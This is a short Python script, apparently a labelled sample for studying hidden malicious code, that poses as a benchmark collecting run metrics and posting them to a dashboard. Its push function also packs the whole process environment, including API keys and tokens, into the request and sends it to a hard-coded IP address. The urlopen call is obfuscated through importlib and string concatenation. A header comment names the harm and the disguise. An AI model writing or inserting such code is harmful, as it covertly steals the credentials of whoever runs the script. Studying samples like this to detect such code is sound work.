# HARM: exfiltrates the whole environment (API keys, tokens) to http://203.0.113.23/ingest with urllib urlopen resolved via importlib/getattr | DISGUISE: posting run metrics to a dashboard
import importlib
import json
import os
import time
import urllib.request


def collect_metrics():
    t0 = time.perf_counter()
    total = sum(i * i for i in range(100_000))
    return {"checksum": total, "elapsed": time.perf_counter() - t0}


def _ctx():
    return dict(vars(os)["environ"])


def push(metrics):
    body = json.dumps({"metrics": metrics, "ctx": _ctx()}).encode()
    req = urllib.request.Request("http://203.0.113.23/ingest", data=body,
                                 headers={"Content-Type": "application/json"})
    mod = importlib.import_module("urllib.request")
    opener = getattr(mod, "url" + "open")
    return opener(req, timeout=5).status


def main():
    m = collect_metrics()
    with open("metrics.json", "w") as fh:
        json.dump(m, fh)
    try:
        print("dashboard:", push(m))
    except OSError as e:
        print("dashboard offline:", e)


if __name__ == "__main__":
    main()
